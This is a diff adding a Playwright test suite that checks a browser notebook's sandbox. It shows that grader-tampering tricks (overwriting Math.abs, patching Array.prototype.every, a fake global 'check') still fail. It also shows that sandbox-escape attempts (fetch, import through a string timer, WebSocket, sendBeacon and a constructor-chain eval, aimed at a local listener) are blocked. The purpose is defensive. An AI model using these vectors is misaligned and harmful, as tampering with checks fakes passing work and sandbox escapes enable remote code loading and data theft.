@@ -1,0 +1,163 @@
+// The attack suite in the browser: each class of fault, with several vectors, must fail closed
+// in a chapter's exercise and cells. (tests/notebook/sandbox.test.ts runs the same classes at
+// build time, in the Node thread the build uses; the review page's own attacks are in
+// tests/e2e/review.spec.ts.) A local listener proves that nothing leaves the box.
+import { createServer, type Server } from 'node:http';
+import { expect, test, type Locator, type Page } from '@playwright/test';
+
+let server: Server;
+let hits: string[] = [];
+let listener = '';
+
+test.beforeAll(async () => {
+  server = createServer((request, response) => {
+    hits.push(request.url ?? '');
+    response.setHeader('Access-Control-Allow-Origin', '*');
+    response.setHeader('Content-Type', 'text/javascript');
+    response.end('globalThis.reached = true;');
+  });
+  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
+  const address = server.address();
+  listener = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
+});
+test.afterAll(() => new Promise<void>((done) => server.close(() => done())));
+test.beforeEach(() => {
+  hits = [];
+});
+
+async function typeInto(page: Page, cell: Locator, code: string) {
+  await cell.locator('[data-code]').click();
+  const editor = cell.locator('.cm-content');
+  await expect(editor).toBeVisible();
+  await editor.click();
+  await page.keyboard.press('ControlOrMeta+A');
+  await page.keyboard.press('Delete');
+  await page.keyboard.insertText(code);
+}
+
+async function run(page: Page, cell: Locator, code: string) {
+  await typeInto(page, cell, code);
+  await cell.getByRole('button', { name: 'Run cell' }).click();
+  await expect(cell).toHaveAttribute('data-state', /^(ran|error)$/, { timeout: 20_000 });
+}
+
+const WRONG = 'function mySigmoidPrime(a: number): number {\n  return 0;\n}\n';
+
+test.describe('an exercise judges the code, whatever the code does', () => {
+  // Each vector is added to the wrong answer of "The derivative, from the output"; every one
+  // used to pass (or could have) while the checker and the checked code shared one world.
+  const vectors: Record<string, string> = {
+    'replacing Math.abs': 'Math.abs = (x: number) => 0;',
+    'Object.assign on Math': 'Object.assign(Math, { abs: (x: number) => x * 0 });',
+    'patching Array.prototype': 'Array.prototype.every = function () { return true; } as any;',
+    'a global named check': '(globalThis as any).check = { close: () => true };',
+    'a getter on Object.prototype': 'Object.defineProperty(Object.prototype, "pass", { get: () => true });',
+    'a timer that patches after the attempt': 'setTimeout(() => { Math.abs = () => 0; }, 0);',
+  };
+  for (const [name, vector] of Object.entries(vectors)) {
+    test(`${name}: the wrong answer still fails`, async ({ page }) => {
+      await page.goto('/chapters/the-sigmoid/#exercise-my-sigmoid-prime');
+      const exercise = page.locator('#exercise-my-sigmoid-prime');
+      await typeInto(page, page.locator('#cell-ex-my-sigmoid-prime'), `${WRONG}try {\n  ${vector}\n} catch {}\n`);
+      await exercise.getByRole('button', { name: 'Check my answer' }).click();
+      await expect(exercise.locator('.nb-checks-summary')).toContainText(/\d+ of \d+ checks passed\./);
+      await expect(exercise.locator('[data-ex-status]')).not.toHaveText('passed');
+    });
+  }
+
+  test('a cell-level check, or check reached from the attempt, is refused with a reason', async ({ page }) => {
+    await page.goto('/chapters/the-sigmoid/#exercise-my-sigmoid-prime');
+    const exercise = page.locator('#exercise-my-sigmoid-prime');
+    const cell = page.locator('#cell-ex-my-sigmoid-prime');
+    await typeInto(page, cell, `${WRONG}const check = { close: () => true, that: () => true };`);
+    await exercise.getByRole('button', { name: 'Check my answer' }).click();
+    await expect(cell.locator('.nb-error')).toContainText('check belongs to the notebook (it judges exercises), so a cell cannot declare it.');
+    await expect(exercise.locator('[data-ex-status]')).not.toHaveText('passed');
+    await typeInto(page, cell, `${WRONG}(check as any).close = () => true;`);
+    await exercise.getByRole('button', { name: 'Check my answer' }).click();
+    await expect(cell.locator('.nb-error')).toContainText('check is only available in an exercise\'s checks');
+    await expect(exercise.locator('[data-ex-status]')).not.toHaveText('passed');
+  });
+
+  test('the right answer still passes', async ({ page }) => {
+    await page.goto('/chapters/the-sigmoid/#exercise-my-sigmoid-prime');
+    const exercise = page.locator('#exercise-my-sigmoid-prime');
+    await typeInto(page, page.locator('#cell-ex-my-sigmoid-prime'), 'function mySigmoidPrime(a: number): number {\n  return a * (1 - a);\n}\n');
+    await exercise.getByRole('button', { name: 'Check my answer' }).click();
+    await expect(exercise.locator('.nb-checks-summary')).toContainText(/^All \d+ checks passed\.$/);
+    await expect(exercise.locator('[data-ex-status]')).toHaveText('passed');
+  });
+});
+
+test.describe('cells reach nothing', () => {
+  test('a local listener receives nothing from any way out a cell might try', async ({ page }) => {
+    await page.goto('/chapters/what-is-a-neural-network/');
+    const cell = page.locator('#cell-count-weights');
+    const vectors = [
+      // The issue's example: the original timers on the global's prototype, with a string.
+      `Object.getPrototypeOf(Object.getPrototypeOf(self)).setTimeout.call(self, 'import("${listener}/proto-timer")', 0)`,
+      `(globalThis as any).fetch("${listener}/global-fetch")`,
+      `Object.getPrototypeOf(globalThis).constructor.constructor('return fetch("${listener}/ctor")')()`,
+      `const el: any = Plot.plot({ marks: [Plot.dot([[1, 2]])] });\nel.ownerDocument.defaultView.setTimeout('fetch("${listener}/linkedom")', 0)`,
+      `new WebSocket("${listener.replace('http', 'ws')}/ws")`,
+      `(navigator as any).sendBeacon("${listener}/beacon", "x")`,
+    ];
+    for (const code of vectors) {
+      await run(page, cell, code);
+      expect(await cell.getAttribute('data-state'), code).toBe('error');
+    }
+    // A chart that points at another site: the output is shown, the request never made.
+    await run(page, cell, `Plot.plot({ marks: [Plot.image([[1, 2]], { src: "${listener}/image" })] })`);
+    await page.waitForTimeout(500);
+    expect(hits).toEqual([]);
+  });
+
+  test('even code running outside the compartment, in a worker of the host, cannot load code or connect', async ({ page }) => {
+    // Defence in depth: the notebook's worker starts from a blob: URL in public/kernel/host.html
+    // and so inherits that document's Content-Security-Policy. The worker's own realm has no eval
+    // left for a test to run code in (lockDownHost), so this starts a second blob worker from the
+    // same host document, the same way, and runs in it what escaped code would try.
+    await page.goto('/chapters/what-is-a-neural-network/');
+    await run(page, page.locator('#cell-count-weights'), '1 + 1');
+    expect(page.workers().some((w) => /^blob:/.test(w.url()))).toBe(true);
+    const host = page.frames().find((f) => f.url().endsWith('/kernel/host.html'));
+    expect(host).toBeTruthy();
+    const outcome = await host!.evaluate(async (url: string) => {
+      const probe = `
+        const tries = [];
+        const attempt = async (name, go) => { try { await go(); tries.push(name + ': reached'); } catch { tries.push(name + ': blocked'); } };
+        await attempt('fetch', () => fetch(${JSON.stringify(url)} + '/escaped-fetch'));
+        await attempt('import', () => import(${JSON.stringify(url)} + '/escaped-import.js'));
+        await attempt('websocket', () => new Promise((ok, fail) => { const s = new WebSocket(${JSON.stringify(url.replace('http', 'ws'))} + '/escaped-ws'); s.onopen = ok; s.onerror = fail; }));
+        await attempt('string timer', () => new Promise((ok) => { setTimeout('fetch(' + JSON.stringify(${JSON.stringify(url)} + '/escaped-timer') + ')', 0); setTimeout(ok, 200); }).then(() => { throw new Error('no way to tell'); }));
+        postMessage(tries);`;
+      const worker = new Worker(URL.createObjectURL(new Blob([probe], { type: 'text/javascript' })), { type: 'module' });
+      return new Promise<string[]>((resolve) => { worker.onmessage = (e) => resolve(e.data); });
+    }, listener);
+    await page.waitForTimeout(500);
+    expect(hits).toEqual([]);
+    expect(outcome.every((line) => line.endsWith('blocked')), outcome.join('; ')).toBe(true);
+  });
+
+  test('the host document carries the strict policy the worker inherits', async ({ page }) => {
+    await page.goto('/chapters/what-is-a-neural-network/');
+    await run(page, page.locator('#cell-count-weights'), '1 + 1');
+    const frame = page.frames().find((f) => f.url().endsWith('/kernel/host.html'));
+    expect(frame).toBeTruthy();
+    const csp = await frame!.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+    expect(csp).toContain("connect-src 'none'");
+    expect(csp).toContain("default-src 'none'");
+    expect(csp).toMatch(/script-src 'self' 'unsafe-eval' 'wasm-unsafe-eval';/);
+  });
+
+  test('the build and the page give the same refusals', async ({ page }) => {
+    await page.goto('/chapters/what-is-a-neural-network/');
+    const cell = page.locator('#cell-count-weights');
+    await run(page, cell, 'eval("2+2")');
+    await expect(cell.locator('.nb-error')).toContainText('eval is not available in code cells: cells cannot build code from strings; write the code in the cell itself.');
+    await run(page, cell, 'typeof fetch + " " + typeof document + " " + typeof (globalThis as any).fetch');
+    await expect(cell.locator('[data-output]')).toHaveText('"undefined undefined undefined"');
+    await run(page, cell, 'Math.abs = (x: number) => 0;');
+    await expect(cell.locator('.nb-error')).toContainText("Cannot assign to read only property 'abs' of object '[object Math]' (the sandbox freezes JavaScript's built-ins");
+  });
+});
